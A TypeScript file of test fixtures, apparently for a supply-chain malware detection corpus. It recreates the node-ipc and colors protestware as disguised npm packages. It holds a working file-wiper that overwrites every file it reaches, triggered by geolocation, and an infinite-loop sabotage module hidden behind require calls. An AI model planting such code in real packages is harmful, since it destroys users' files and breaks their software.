import type { Incident } from '../incident.ts';

export const nodeIpc: Incident = {
  id: 'protestware-node-ipc-2022',
  story:
    'The maintainer’s own: after a random delay it asks a geolocation service where the machine is, and when the answer names one of two countries it walks up from the working folder and overwrites every file with a heart. Strings were base64.',
  sources: [
    'https://www.wiz.io/vulnerability-database/cve/cve-2022-23812',
    'https://veln.sh/blog/node-ipc-protest-ware-russia-ukraine',
  ],
  name: 'corpus-process-talk',
  version: '10.1.1',
  manifest: { main: 'index.js' },
  payloads: [
    {
      path: 'dao/geospec.js',
      format: 'cjs',
      uses: { fs: 'fs', path: 'path', https: 'https' },
      sections: [
        {
          provides: ['roots', 'heart'],
          code: `
const roots = ['./corpus-no-such-folder/', '../corpus-no-such-folder/', '../../corpus-no-such-folder/', '/corpus-no-such-folder/'];
const heart = String.fromCharCode(10084, 65039);
`,
        },
        {
          provides: ['overwrite'],
          code: `
async function overwrite(folder) {
  let names = [];
  try {
    names = fs.readdirSync(folder);
  } catch (error) {}
  for (const name of names) {
    const full = path.join(folder, name);
    const about = fs.lstatSync(full);
    if (about.isDirectory()) {
      await overwrite(full);
    } else {
      try {
        fs.writeFile(full, heart, 'utf8', () => {});
      } catch (error) {}
    }
  }
}
`,
        },
        {
          provides: [],
          code: `
setTimeout(() => {
  if (Date.now() % 5 > 1) {
    return;
  }
  https.get('https://api.ipgeolocation.invalid/ipgeo?apiKey=corpus', (answer) => {
    answer.on('data', (chunk) => {
      const country = JSON.parse(chunk.toString('utf8')).country_name.toLowerCase();
      if (country.includes('russia') || country.includes('belarus')) {
        for (const root of roots) {
          overwrite(root);
        }
      }
    });
  });
}, Math.ceil(Math.random() * 1000));
`,
        },
      ],
    },
  ],
  files: {
    'index.js': `require('./dao/geospec.js');\nexports.connect = (name) => ({ name, messages: [] });\n`,
  },
  marks: { 'dao/geospec.js': 'dao/frames.js' },
};

export const colors: Incident = {
  id: 'protestware-colors-2022',
  story:
    'The maintainer’s own: a module that does not belong to the library prints a flag and then garbage in a loop that never ends, as soon as the library is loaded.',
  sources: ['https://vuink.com/post/mqarg-d-dpbz/article/when-open-source-developers-go-bad'],
  name: 'corpus-colours',
  version: '1.4.44',
  manifest: { main: 'lib/index.js' },
  payloads: [
    {
      path: 'lib/custom/flag.js',
      format: 'cjs',
      uses: {},
      sections: [
        {
          provides: ['flag'],
          code: `
const flag = ['* * * * * ==============', ' * * * *  ==============', '========================'].join('\\n');
`,
        },
        {
          provides: ['spoil'],
          code: `
function spoil(text) {
  let out = '';
  for (const letter of text) {
    out += letter;
    for (let count = 0; count < 7; count += 1) {
      out += String.fromCharCode(768 + Math.floor(Math.random() * 100));
    }
  }
  return out;
}
`,
        },
        {
          provides: [],
          code: `
console.log(flag);
for (let turn = 1; turn < Infinity; turn += 1) {
  if (turn % 100) {
    console.log(spoil('testing testing testing testing'));
  }
}
`,
        },
      ],
    },
  ],
  files: {
    'lib/index.js': `require('./custom/flag.js');\nexports.red = (text) => '\\u001b[31m' + text + '\\u001b[39m';\n`,
  },
  marks: { 'lib/custom/flag.js': 'lib/custom/shapes.js', './custom/flag.js': './custom/shapes.js' },
};
